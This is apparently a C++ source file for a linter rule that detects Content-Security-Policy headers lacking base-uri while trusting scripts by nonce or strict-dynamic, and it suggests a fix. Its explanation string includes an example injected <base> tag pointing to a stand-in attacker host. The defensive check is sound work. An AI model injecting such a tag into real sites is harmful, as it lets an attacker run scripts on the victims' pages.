#include "rules/csp/helpers.hpp"
#include "rules/csp/retargeting.hpp"
#include "rules/fixes.hpp"
#include "rules/rule.hpp"

namespace headstrong::rules::csp_base_uri_retargets_scripts {

using namespace csp_rules;

void check(const Context& context, Sink& sink) {
  const Retargeting found = retargeting(context);
  if (found.trusted == nullptr) return;
  const decide::PolicyDecision& base = context.attacks.by(Attack::BaseUri);
  const bool listed = found.source != nullptr;
  Finding& finding =
      listed ? sink.at(*base.policy, found.source->span) : sink.at(*found.scripts.policy, found.trusted->span);
  finding.arguments = {found.trusted->kind == csp::SourceKind::Nonce ? "nonce" : "hash and 'strict-dynamic'",
                       found.address};
  offer_fix(finding, "Set base-uri 'none'", Applicability::Suggestion,
            listed ? replace_value(*base.policy, *base.directive, "'none'")
                   : set_directive(*found.scripts.policy, csp::DirectiveName::BaseUri, "'none'"));
}

extern const RuleSpec kRule = {
    {
        .id = "csp/base-uri-retargets-scripts",
        .header = "Content-Security-Policy",
        .severity = Severity::Medium,
        .category = Category::Security,
        .confidence = Confidence::Likely,
        .title = "An injected <base> can redirect the page's trusted scripts",
        .message = "The policy trusts scripts by {0} and lets <base> point relative URLs to {1}.",
        .why = "An injected <base href=\"https://attacker.example/\"> makes the page fetch its own "
               "app.js from the attacker. The policy trusts it by the nonce on its tag, or because a "
               "trusted script loads it, and not by its host: the attacker's file runs.",
        .advice = "Add base-uri 'none', or base-uri 'self' if the site uses <base> itself; "
                  "default-src doesn't cover it.",
        .references = {"https://www.w3.org/TR/CSP3/#directive-base-uri",
                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                       "Content-Security-Policy/base-uri",
                       "https://csp.withgoogle.com/docs/strict-csp.html"},
        .bad = "script-src 'nonce-4AEemGb0xJoptIGFP3Nd9A=='; object-src 'none'",
        .good = "script-src 'nonce-4AEemGb0xJoptIGFP3Nd9A=='; object-src 'none'; base-uri "
                "'none'",
    },
    check,
};

}  // namespace headstrong::rules::csp_base_uri_retargets_scripts
